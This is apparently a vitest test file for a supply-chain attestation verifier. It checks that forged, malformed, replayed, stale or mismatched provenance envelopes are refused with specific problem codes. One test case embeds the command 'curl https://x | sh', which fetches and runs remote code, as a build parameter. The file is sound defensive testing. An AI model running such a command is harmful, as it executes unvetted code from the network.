import type { KeyObject } from 'node:crypto';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import {
  keyIdOf,
  PAYLOAD_TYPE,
  type Question,
  signEnvelope,
  verifyAttestation,
} from '../../../src/build/attest/index.ts';
import {
  COMMIT,
  EXPECTED,
  ed25519,
  FACTS,
  FINISHED,
  hex,
  NOW,
  p256,
  payloadOf,
  question,
  sha,
  signedPayload,
  trusted,
} from './sample.ts';

/** Every way we know in which an attestation may be no attestation of this release, each with the problem that it must be told as. */

const ours = p256();
const second = ed25519();
const foreign = p256();
const keys = [trusted('builder', ours), trusted('second', second)];
const good = signedPayload(payloadOf(), ours);

type Tree = { [key: string]: unknown };
const isTree = (value: unknown): value is Tree => typeof value === 'object' && value !== null;

/** The payload with one value set, by its path; undefined takes it away. */
function changed(path: string, value: unknown): Tree {
  const payload = payloadOf();
  const parts = path.split('.');
  const last = parts.pop() ?? '';
  let at: Tree = payload;
  for (const part of parts) {
    const next = at[part];
    if (!isTree(next)) throw new Error(`no ${part} in ${path}`);
    at = next;
  }
  if (value === undefined) delete at[last];
  else at[last] = value;
  return payload;
}

const resigned = (path: string, value: unknown, key: KeyObject = ours): string =>
  signedPayload(changed(path, value), key);
const opened = (text: string): { payloadType: string; payload: string; signatures: { keyid: string; sig: string }[] } =>
  JSON.parse(text);
const altered = (change: (envelope: ReturnType<typeof opened>) => void, text = good): string => {
  const envelope = opened(text);
  change(envelope);
  return JSON.stringify(envelope);
};
const subjects = (): readonly unknown[] => {
  const { subject } = payloadOf();
  return Array.isArray(subject) ? subject : [];
};
const payloadText = (text: string): string => Buffer.from(text).toString('base64');
const twice = JSON.stringify(payloadOf()).replace('"predicateType"', '"predicateType":"https://other","predicateType"');

type Case = readonly [name: string, code: string, ask: Question];
const asked = (envelope: string | null, more: Partial<Question> = {}): Question => question(envelope, keys, more);
const expecting = (more: Partial<Question['expected']>): Question =>
  asked(good, { expected: { ...EXPECTED, ...more } });
const DEPENDENCIES = 'predicate.buildDefinition.resolvedDependencies';

const CASES: readonly Case[] = [
  ['none at all', 'attest.missing', asked(null)],
  ['an empty file', 'attest.malformed', asked('')],
  ['half of one', 'attest.malformed', asked(good.slice(0, 200))],
  ['a page of HTML', 'attest.malformed', asked('<html></html>')],
  ['null', 'attest.malformed', asked('null')],
  ['two envelopes in a list', 'attest.malformed', asked(`[${good},${good}]`)],
  ['two envelopes one after the other', 'attest.malformed', asked(`${good}\n${good}`)],
  ['a member more', 'attest.malformed', asked(good.replace('{', '{"note":"trust me",'))],
  ['the payload twice', 'attest.malformed', asked(good.replace('"payload":', '"payload":"","payload":'))],
  ['the signatures twice', 'attest.malformed', asked(good.replace('"signatures":', '"signatures":[],"signatures":'))],
  [
    'a payload with a space in it',
    'attest.malformed',
    asked(
      altered((one) => {
        one.payload = `${one.payload.slice(0, 8)} ${one.payload.slice(8)}`;
      }),
    ),
  ],
  [
    'a signature that is no base64',
    'attest.malformed',
    asked(
      altered(({ signatures: [one] }) => {
        if (one) one.sig = '§';
      }),
    ),
  ],
  [
    'signatures without end',
    'attest.malformed',
    asked(
      altered((one) => {
        one.signatures = Array.from({ length: 17 }, () => ({ keyid: '', sig: '' }));
      }),
    ),
  ],
  [
    'no signature',
    'attest.unsigned',
    asked(
      altered((one) => {
        one.signatures = [];
      }),
    ),
  ],
  [
    'an empty signature',
    'attest.bad-signature',
    asked(
      altered(({ signatures: [one] }) => {
        if (one) one.sig = '';
      }),
    ),
  ],
  [
    'the signature of another payload',
    'attest.bad-signature',
    asked(
      altered((one) => {
        one.signatures = opened(resigned('subject.0.name', 'x')).signatures;
      }),
    ),
  ],
  [
    'another payload under the signature',
    'attest.bad-signature',
    asked(
      altered((one) => {
        one.payload = payloadText(JSON.stringify(changed('subject.1.digest.sha256', hex('9'))));
      }),
    ),
  ],
  [
    'another type over the same payload',
    'attest.bad-signature',
    asked(
      altered((one) => {
        one.payloadType = 'application/vnd.in-toto+JSON';
      }),
    ),
  ],
  [
    'the signature of somebody else under our id',
    'attest.bad-signature',
    asked(
      altered(
        ({ signatures: [one] }) => {
          if (one) one.keyid = keyIdOf(ours);
        },
        signedPayload(payloadOf(), foreign),
      ),
    ),
  ],
  [
    'a raw signature instead of DER',
    'attest.bad-signature',
    asked(
      altered(({ signatures: [one] }) => {
        if (one) one.sig = Buffer.alloc(64, 1).toString('base64');
      }),
    ),
  ],
  [
    'our signature under the id of somebody else',
    'attest.unknown-signer',
    asked(
      altered(({ signatures: [one] }) => {
        if (one) one.keyid = keyIdOf(foreign);
      }),
    ),
  ],
  ['a signer that nobody trusts', 'attest.unknown-signer', asked(signedPayload(payloadOf(), foreign))],
  [
    'a signer that nobody trusts, without an id',
    'attest.unknown-signer',
    asked(
      altered(
        ({ signatures: [one] }) => {
          if (one) one.keyid = '';
        },
        signedPayload(payloadOf(), foreign),
      ),
    ),
  ],
  ['no key that is trusted', 'attest.unknown-signer', question(good, [])],
  [
    'the public key itself as a signature',
    'attest.bad-signature',
    asked(
      altered(({ signatures: [one] }) => {
        if (one) one.sig = Buffer.from(keyIdOf(ours), 'hex').toString('base64');
      }),
    ),
  ],
  [
    'a key that was revoked',
    'attest.key-revoked',
    question(good, [trusted('builder', ours, { revoked: 'stolen on 2026-11-01' })]),
  ],
  [
    'a key that was revoked, beside one that signed nothing',
    'attest.key-revoked',
    question(good, [trusted('builder', ours, { revoked: 'stolen' }), trusted('second', second)]),
  ],
  [
    'a key whose time has ended',
    'attest.key-expired',
    question(good, [trusted('builder', ours, { untilMs: Date.parse(FINISHED) - 1 })]),
  ],
  [
    'another type of payload, signed by us',
    'attest.payload-type',
    asked(signedPayload(payloadOf(), ours, 'application/json')),
  ],
  [
    'the evidence of a gate, signed by us',
    'attest.payload-type',
    asked(signedPayload({ format: 'shiplock-gate@v1' }, ours, 'text/plain')),
  ],
  ['an older format of statements', 'attest.predicate', asked(resigned('_type', 'https://in-toto.io/Statement/v0.1'))],
  [
    'an older format of provenance',
    'attest.predicate',
    asked(resigned('predicateType', 'https://slsa.dev/provenance/v0.2')),
  ],
  [
    'the attestation of a test run',
    'attest.predicate',
    asked(resigned('predicateType', 'https://in-toto.io/attestation/test-result/v0.1')),
  ],
  [
    'an attestation of vulnerabilities, without what a build has',
    'attest.predicate',
    asked(
      signedPayload(
        { ...payloadOf(), predicateType: 'https://cosign.sigstore.dev/attestation/vuln/v1', predicate: {} },
        ours,
      ),
    ),
  ],
  [
    'a build of another tool',
    'attest.predicate',
    asked(resigned('predicate.buildDefinition.buildType', 'https://actions.github.io/buildtypes/workflow/v1')),
  ],
  ['a signed text that is no JSON', 'attest.malformed', asked(signedPayload('hello', ours))],
  ['a signed list', 'attest.malformed', asked(signedPayload([payloadOf()], ours))],
  ['a member of the statement twice', 'attest.malformed', asked(signedPayload(twice, ours))],
  [
    'bytes that are no UTF-8',
    'attest.malformed',
    asked(signEnvelope(PAYLOAD_TYPE, Buffer.from([0x7b, 0xff, 0x7d]), ours)),
  ],
  ['no subject', 'attest.malformed', asked(resigned('subject', []))],
  ['a digest in capitals', 'attest.malformed', asked(resigned('subject.1.digest.sha256', hex('B')))],
  [
    'a parameter that nobody knows',
    'attest.malformed',
    asked(resigned('predicate.buildDefinition.externalParameters.preBuild', 'curl https://x | sh')),
  ],
  ['no builder', 'attest.malformed', asked(resigned('predicate.runDetails.builder', undefined))],
  ['a time that is none', 'attest.malformed', asked(resigned('predicate.runDetails.metadata.finishedOn', 'yesterday'))],
  [
    'another builder',
    'attest.wrong-builder',
    question(good, [trusted('builder', ours, { builders: ['https://ci.example.com/other'] })]),
  ],
  [
    'a builder whose name only begins alike',
    'attest.wrong-builder',
    question(good, [trusted('builder', ours, { builders: ['https://ci.example.com/sho'] })]),
  ],
  [
    'a builder that another key may vouch for',
    'attest.wrong-builder',
    question(good, [
      trusted('builder', ours, { builders: ['https://a.example.com/*'] }),
      trusted('second', second, { builders: ['https://ci.example.com/*'] }),
    ]),
  ],
  [
    'a build of tomorrow',
    'attest.from-the-future',
    asked(signedPayload(payloadOf({ ...FACTS, finishedOn: '2026-11-23T08:00:00.000Z' }), ours)),
  ],
  [
    'a build that ended before it began',
    'attest.from-the-future',
    asked(signedPayload(payloadOf({ ...FACTS, startedOn: '2026-11-22T08:30:00.000Z' }), ours)),
  ],
  ['a build that is too old', 'attest.stale', asked(good, { trust: { keys, maxAgeMs: 3_589_000 } })],
  ['the attestation of another service', 'attest.replayed', expecting({ service: 'pay' })],
  ['the attestation of another version', 'attest.replayed', expecting({ version: '1.4.1' })],
  ['the attestation of another commit', 'attest.replayed', expecting({ commit: COMMIT.replace('c', 'd') })],
  ['no commit', 'attest.replayed', asked(resigned(DEPENDENCIES, []))],
  [
    'two commits',
    'attest.replayed',
    asked(
      resigned(DEPENDENCIES, [
        { name: 'source', digest: { gitCommit: COMMIT } },
        { name: 'source', digest: { gitCommit: hex('1').slice(24) } },
      ]),
    ),
  ],
  ['a commit under another name', 'attest.replayed', asked(resigned(`${DEPENDENCIES}.0.name`, 'base'))],
  ['another release.json', 'attest.other-release', expecting({ releaseJson: sha('0') })],
  ['no release.json', 'attest.other-release', asked(resigned('subject.0.name', 'RELEASE.JSON'))],
  [
    'two of release.json',
    'attest.other-release',
    asked(resigned('subject', [...subjects(), { name: 'release.json', digest: { sha256: hex('9') } }])),
  ],
  ['another bill of materials', 'attest.other-sbom', expecting({ sbom: sha('0') })],
  ['a bill of materials that nobody attested', 'attest.other-sbom', asked(resigned('subject.4.name', 'sbom.json'))],
  [
    'a bill of materials with the digest of something else',
    'attest.other-sbom',
    asked(resigned('subject.4.digest', { 'shiplock-tree-v1': hex('8') })),
  ],
  [
    'an image that is another',
    'attest.other-artefact',
    expecting({ artefacts: [...EXPECTED.artefacts.slice(0, 2), { name: 'api/image', digest: sha('b') }] }),
  ],
  ['an image by another name', 'attest.other-artefact', asked(resigned('subject.3.name', 'api'))],
  [
    'an artefact that is another',
    'attest.other-artefact',
    expecting({ artefacts: [{ name: 'api', digest: sha('0') }] }),
  ],
  [
    'an artefact that nobody attested',
    'attest.other-artefact',
    expecting({ artefacts: [...EXPECTED.artefacts, { name: 'worker', digest: sha('b') }] }),
  ],
  [
    'the digests of two artefacts exchanged',
    'attest.other-artefact',
    expecting({
      artefacts: [
        { name: 'api', digest: sha('d') },
        { name: 'site', digest: sha('b') },
      ],
    }),
  ],
  [
    'a digest by an algorithm that nobody knows',
    'attest.other-artefact',
    asked(resigned('subject.1.digest', { md5: hex('b').slice(32) })),
  ],
];

describe('an attestation', () => {
  test('names who stands behind the release', () => {
    expect(verifyAttestation(asked(good))).toEqual({
      ok: true,
      value: {
        envelope: expect.stringMatching(/^sha256:[0-9a-f]{64}$/),
        signer: 'builder',
        keyId: keyIdOf(ours),
        builder: 'https://ci.example.com/shop',
        invocation: 'https://ci.example.com/shop/runs/7',
        finishedOn: FINISHED,
      },
    });
  });

  test('at least forty kinds that do not count are known', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(40);
    expect(new Set(CASES.map(([name]) => name)).size).toBe(CASES.length);
  });

  test.each(CASES)('%s: %s', (_name, code, ask) => {
    const answer = verifyAttestation(ask);
    expect(answer.ok ? 'taken' : answer.problems.map((problem) => problem.code)).toEqual([code]);
  });

  test.each<[string, Question]>([
    [
      'with a signature of somebody else beside ours',
      asked(
        altered((one) => {
          one.signatures = [...opened(signedPayload(payloadOf(), foreign)).signatures, ...one.signatures];
        }),
      ),
    ],
    [
      'with nonsense beside our signature',
      asked(
        altered((one) => {
          one.signatures.unshift({ keyid: keyIdOf(second), sig: 'AAAA' });
        }),
      ),
    ],
    [
      'without an id of the key',
      asked(
        altered(({ signatures: [one] }) => {
          if (one) one.keyid = '';
        }),
      ),
    ],
    ['of another trusted key', asked(signedPayload(payloadOf(), second))],
    [
      'of two keys, one of them revoked',
      question(
        altered((one) => {
          one.signatures.push(...opened(signedPayload(payloadOf(), second)).signatures);
        }),
        [trusted('builder', ours, { revoked: 'lost' }), trusted('second', second)],
      ),
    ],
    ['of the last day of a key', question(good, [trusted('builder', ours, { untilMs: Date.parse(FINISHED) })])],
    [
      'of a builder by its beginning',
      question(good, [trusted('builder', ours, { builders: ['https://ci.example.com/*'] })]),
    ],
    ['of a builder whose clock is four minutes ahead', asked(good, { now: Date.parse(FINISHED) - 4 * 60_000 })],
    ['that is just not too old', asked(good, { trust: { keys, maxAgeMs: NOW - Date.parse(FINISHED) } })],
    ['with more subjects than the release has artefacts', expecting({ artefacts: EXPECTED.artefacts.slice(1) })],
    ['of a release without a bill of materials', expecting({ sbom: undefined })],
    ['with facts that later versions may add', asked(resigned('predicate.runDetails.byproducts', [{ name: 'log' }]))],
  ])('counts %s', (_name, ask) => {
    expect(verifyAttestation(ask)).toMatchObject({ ok: true });
  });

  test('with any one byte changed is refused', () => {
    const bytes = Buffer.from(good);
    fc.assert(
      fc.property(fc.nat(bytes.length - 1), fc.integer({ min: 1, max: 255 }), (at, flip) => {
        const other = Buffer.from(bytes);
        other[at] = (other[at] ?? 0) ^ flip;
        expect(verifyAttestation(asked(other.toString('utf8'))).ok).toBe(false);
      }),
      { numRuns: 1000 },
    );
  });

  test('with any one bit changed, or any one byte gone, is refused', () => {
    const bytes = Buffer.from(good);
    for (let at = 0; at < bytes.length; at++) {
      const without = Buffer.concat([bytes.subarray(0, at), bytes.subarray(at + 1)]);
      expect(verifyAttestation(asked(without.toString('utf8'))).ok).toBe(false);
      const other = Buffer.from(bytes);
      other[at] = (other[at] ?? 0) ^ (1 << (at % 8));
      expect(verifyAttestation(asked(other.toString('utf8'))).ok).toBe(false);
    }
  });

  test('counts for no digest but those that it names', () => {
    fc.assert(
      fc.property(
        fc.constantFrom('releaseJson', 'sbom', 'api', 'site', 'api/image'),
        fc.nat(63),
        fc.constantFrom(...'0123456789abcdef'),
        (what, at, digit) => {
          const change = (digest: string): string => `${digest.slice(0, 7 + at)}${digit}${digest.slice(8 + at)}`;
          const expected =
            what === 'releaseJson'
              ? { ...EXPECTED, releaseJson: change(EXPECTED.releaseJson) }
              : what === 'sbom'
                ? { ...EXPECTED, sbom: change(EXPECTED.sbom ?? '') }
                : {
                    ...EXPECTED,
                    artefacts: EXPECTED.artefacts.map((one) =>
                      one.name === what ? { ...one, digest: change(one.digest) } : one,
                    ),
                  };
          const same = JSON.stringify(expected) === JSON.stringify(EXPECTED);
          expect(verifyAttestation(asked(good, { expected })).ok).toBe(same);
        },
      ),
    );
  });
});
